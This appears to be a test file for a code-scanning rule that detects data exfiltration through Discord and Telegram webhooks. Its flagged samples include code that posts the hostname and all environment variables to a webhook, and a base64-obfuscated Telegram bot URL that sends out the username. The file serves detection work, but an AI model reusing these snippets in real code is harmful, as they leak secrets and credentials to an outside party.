import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/webhook-exfiltration.ts'

const HOOK = 'https://discord.com/api/webhooks/123456789012345678/FIXTUREtokenFIXTUREtokenFIXTURE-invalid'

new RuleTester().run(rule, {
  valid: [
    "const TelegramBot = require('node-telegram-bot-api'); const bot = new TelegramBot(process.env.TELEGRAM_TOKEN); bot.sendMessage(chatId, 'build ok')",
    "module.exports = (url, text) => fetch(url, { method: 'POST', body: JSON.stringify({ content: text }) })",
  ],
  invalid: [
    {
      name: 'environment to a Discord webhook',
      code: `const os = require('os'); fetch('${HOOK}', { method: 'POST', body: JSON.stringify({ content: JSON.stringify({ host: os.hostname(), env: process.env }) }) })`,
      errors: [{ severity: 'critical', message: 'Discord webhook' }],
    },
    {
      name: 'Telegram bot URL assembled and encoded',
      code: "const os = require('os'); const u = Buffer.from('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTA6QUFGaXh0dXJlRml4dHVyZUZpeHR1cmVGaXh0dXJlRml4dHVyZTEvc2VuZE1lc3NhZ2U=', 'base64').toString(); fetch(u + '?chat_id=1&text=' + os.userInfo().username)",
      errors: [{ severity: 'critical', message: 'Telegram' }],
    },
    { name: 'hard-coded webhook alone is medium', code: `module.exports = { hook: '${HOOK}' }`, errors: [{ severity: 'medium' }] },
  ],
})
